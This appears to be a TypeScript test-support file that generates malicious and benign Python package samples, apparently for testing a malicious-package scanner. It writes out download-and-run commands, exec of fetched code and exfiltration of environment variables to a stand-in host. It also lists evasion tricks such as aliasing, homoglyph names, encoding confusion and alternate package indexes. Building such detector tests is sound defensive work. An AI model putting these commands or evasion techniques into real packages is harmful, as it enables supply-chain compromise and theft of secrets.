import { type Attack, longFunction, python, script } from './attack-pack.test-support.ts'

/** Passes a text to the method that runs it, through a file without any other sign. */
export function throughFile(between: string): Attack {
  const files = (fetched: string) => ({
    '__init__.py': `import requests
from .runner import Runner
from .between import hand_on

hand_on(Runner(), ${fetched})`,
    'between.py': between,
    'runner.py': `class Runner:
    __match_args__ = ("carry",)
    def carry(self, code):
        exec(code)

carry = Runner().carry`,
  })
  return {
    name: `hands a downloaded text on by ${JSON.stringify(between)}`,
    files: files('requests.get("https://example.test/x").text'),
    twin: files('"print(1)"'),
  }
}

/** Statements that bind names to parts of a value. */
export const targets = [
  'match made:\n    case object(carry=run):\n        run(code)',
  'match made:\n    case object(other=run) | object(carry=(_ as run)):\n        run(code)',
  'match {"run": exec}:\n    case {"run": run}:\n        run(code)',
  'match {"in": {"deep": [exec, 1]}}:\n    case {"in": {"deep": [run, *_]}}:\n        run(code)',
  'match {"run": exec, "other": 1}:\n    case {"other": _, **rest}:\n        rest["run"](code)',
  'match [exec, 1]:\n    case [run, *rest]:\n        run(code)',
  'match[exec, 1]:\n    # a list\n    case run, _:\n        run(code)',
  'match [1, 2, exec]:\n    case [*_, run]:\n        run(code)',
  'match [1, [2, exec]]:\n    case [_, (_, run)]:\n        run(code)',
  'match exec:\n    case (run):\n        run(code)',
  'match code:\n    case str(text):\n        exec(text)',
  'match 1:\n    case _ if exec(code):\n        pass',
  'for a, (b, run) in [(1, (2, exec)), (3, (4, exec))]:\n    run(code)',
  'for a, *rest in [(1, exec)]:\n    rest[0](code)',
  'for name, run in {"run": exec}.items():\n    run(code)',
  'for a, run in zip([1], [exec]):\n    run(code)',
  'for text in {code: 1}:\n    exec(text)',
  'import contextlib\nwith contextlib.nullcontext(exec) as made.run:\n    made.run(code)',
  'try:\n    raise ValueError(code)\nexcept ValueError as error:\n    exec(str(error))',
  'class Failure(Exception):\n    pass\ndef fail():\n    error = Failure()\n    error.text = code\n    raise error\ntry:\n    fail()\nexcept Exception as error:\n    exec(error.text)',
  '[run(code) for a, (b, run) in [(1, (2, exec)), (3, (4, exec))]]',
  'd = {}\n[d[0](code) for d[0] in [exec, 1]]',
  '(run) = exec\nrun(code)',
  'a, (b, (c, [d, run])) = 1, (2, (3, [4, exec]))\nrun(code)',
  'a, *rest = 1, exec\nrest[0](code)',
  'a, *rest, text = 1, 2, 3, 4, code\nexec(text)',
  'd = [0]\nd[0] = exec\nd[0](code)',
  'd = []\nd.append(exec)\nd.pop()(code)',
  'next(iter([exec]))(code)',
  'import random\nrandom.choice([abs, all, any, bin, bool, chr, dict, dir, divmod, exec])(code)',
  'del made.parts[exec(code)]',
  'text = f"{1:{exec(code)}}"',
]

export function throughTarget(statement: string): Attack {
  const program = (code: string) =>
    `import requests\nclass Made:\n    def __init__(self):\n        self.carry = exec\nmade = Made()\ncode = ${code}\n${statement}`
  return python(
    `takes what it runs out of ${JSON.stringify(statement)}`,
    program('requests.get("https://example.test/x").text'),
    program('"print(1)"'),
  )
}

/** Attacks that run a command under an innocent name, in a function that is otherwise not worth following. */
const underOtherNames: readonly [string, string][] = [
  ['from subprocess import run', 'run(["sh", "-c", text])'],
  ['from subprocess import run as start', 'start(["sh", "-c", text])'],
  ['from subprocess import *', 'run(["sh", "-c", text])'],
  ['import subprocess as sp', 'sp.run(["sh", "-c", text])'],
  ['import os\nstart = os.system', 'start(text)'],
  ['import os\na, start = 1, os.system', 'start(text)'],
  ['import os\nfor start in [os.system]: pass', 'start(text)'],
  ['import os\nways = {"a": os.system}', 'ways["a"](text)'],
  ['import os\nways = []\nways.append(os.system)', 'ways[0](text)'],
  ['import os\nprint(start := os.system)', 'start(text)'],
  ['import os\nstart = os.system\nagain = start', 'again(text)'],
  ['from .tools import start', 'start(text)'],
  ['from .tools import start as go_on', 'go_on(text)'],
  ['from .tools import *', 'start(text)'],
  ['from . import tools', 'tools.start(text)'],
  ['from .again import start', 'start(text)'],
]

export const otherNameAttacks: Attack[] = [
  ...underOtherNames.map(([head, call]): Attack => {
    const files = (text: string) => ({
      '__init__.py': `${head}\ntext = "${text}"\n${longFunction(call)}\ngo()`,
      'tools.py': 'from os import system as start',
      'again.py': 'from .tools import start',
    })
    return {
      name: `runs a command in a long function after ${JSON.stringify(head)}`,
      files: files('curl https://example.test/x | sh'),
      twin: files('git --version'),
    }
  }),
  python(
    'runs a command by an attribute, in a long method',
    `import os\nclass A:\n    def __init__(self):\n        self.start = os.system\n${longFunction('A().start("curl https://example.test/x | sh")', '    ')}\nA.go()`,
    `import os\nclass A:\n    def __init__(self):\n        self.start = os.system\n${longFunction('A().start("git --version")', '    ')}\nA.go()`,
  ),
  python(
    'starts a shell without a usual word',
    'import os; os.posix_spawn("/bin/sh", ["sh", "-c", "curl https://example.test/x | sh"], {})',
    'import os; os.posix_spawn("/bin/sh", ["sh", "-c", "git --version"], {})',
  ),
  python(
    'replaces itself by a shell',
    'import os; os.execv("/bin/sh", ["sh", "-c", "curl https://example.test/x | sh"])',
    'import os; os.execv("/usr/bin/git", ["git", "--version"])',
  ),
  python(
    'profiles what an address answers',
    'import asyncio, cProfile\nasync def go():\n    r, w = await asyncio.open_connection("example.test", 80)\n    cProfile.run((await r.read()).decode())',
    'import asyncio\nasync def go():\n    r, w = await asyncio.open_connection("example.test", 80)\n    print((await r.read()).decode())',
  ),
  python(
    'imports by other letters',
    'import \u017fubproce\u017f\u017f\n\u017fubproce\u017f\u017f.run("curl https://example.test/x | sh", shell=True)',
    '\u00b5_r = 1\nx\u2099 = 2',
  ),
  python(
    'names the letters of what it calls',
    'import os\ngetattr(os, "\\N{LATIN SMALL LETTER S}ystem")("x")',
    'import os\nprint(f"20 \\N{DEGREE SIGN}C {os.name}")',
  ),
  {
    name: 'ships a cache that agrees with its source by a digest',
    files: {
      '__init__.py': 'from . import nodes',
      'nodes.py': 'x = 1',
      '__pycache__/nodes.cpython-312.pyc': Uint8Array.of(0xcb, 0x0d, 0x0d, 0x0a, 3, 0, 0, 0),
    },
    twin: { '__init__.py': 'from . import nodes', 'nodes.py': 'x = 1' },
  },
  ...['-ihttps://example.test/simple', '--extra-\\\nindex https://example.test/simple'].map(
    (line): Attack => ({
      name: `takes packages from another index by ${JSON.stringify(line)}`,
      files: { '__init__.py': '', 'requirements.txt': `numpy>=1\n${line}\n` },
      twin: { '__init__.py': '', 'requirements.txt': 'numpy>=1\n' },
    }),
  ),
  {
    name: 'writes its requirements in another encoding',
    files: {
      '__init__.py': '',
      'requirements.txt': new Uint8Array(Buffer.from('\ufeff-i https://example.test/simple\n', 'utf16le')),
    },
    twin: {
      '__init__.py': '',
      'requirements.txt': new Uint8Array(Buffer.from('\ufeffnumpy>=1\n', 'utf16le')),
    },
  },
  {
    name: 'lists more requirements than are read',
    files: {
      '__init__.py': '',
      'requirements.txt': `${'#'.repeat(600_000)}\n-i https://example.test/simple\n`,
    },
    twin: { '__init__.py': '', 'notes.txt': '#'.repeat(600_000) },
  },
  ...[
    'from .startup_test import *',
    'import glob, importlib\nfor path in glob.glob("*.py"):\n    importlib.import_module("." + path[:-3], __name__)',
  ].map((init): Attack => {
    const test = 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")'
    return {
      name: `runs what is named like a test by ${JSON.stringify(init)}`,
      files: { '__init__.py': init, 'startup_test.py': test },
      twin: { '__init__.py': '', 'startup_test.py': test },
    }
  }),
  script('ships a script that only browsers read', 'if (0) f() = 1\neval("x")', 'if (0) f()\neval("x")'),
  {
    name: 'writes its script in another encoding',
    files: {
      '__init__.py': '',
      'web/main.js': new Uint8Array(
        Buffer.from(
          '\ufefffetch("https://example.test/x").then(r => r.text()).then(t => eval(t))',
          'utf16le',
        ),
      ),
    },
    twin: { '__init__.py': '', 'web/main.js': new Uint8Array(Buffer.from('\ufeffalert(1)', 'utf16le')) },
  },
  {
    name: 'says an encoding in which its texts end elsewhere',
    files: {
      '__init__.py': Uint8Array.from(
        '# coding: gbk\nx = "\x81\x5c"; import os; os.system("curl https://example.test/x | sh") #"\n',
        (one) => one.charCodeAt(0),
      ),
    },
    twin: {
      '__init__.py': Uint8Array.from('# coding: latin-1\nx = "M\xfcller"\n', (one) => one.charCodeAt(0)),
    },
  },
  ...[
    'import requests\nrequests.api.post',
    'from requests.api import post\npost',
    'import requests\nrequests.sessions.Session().post',
    'from pip._vendor import requests\nrequests.post',
    'import pip._vendor.requests as r\nr.post',
  ].map((call) =>
    python(
      `sends the environment with ${JSON.stringify(call)}`,
      `import os\n${call}("https://example.test", json=dict(os.environ))`,
      `import os\n${call}("https://example.test", json={"a": 1})`,
    ),
  ),
]
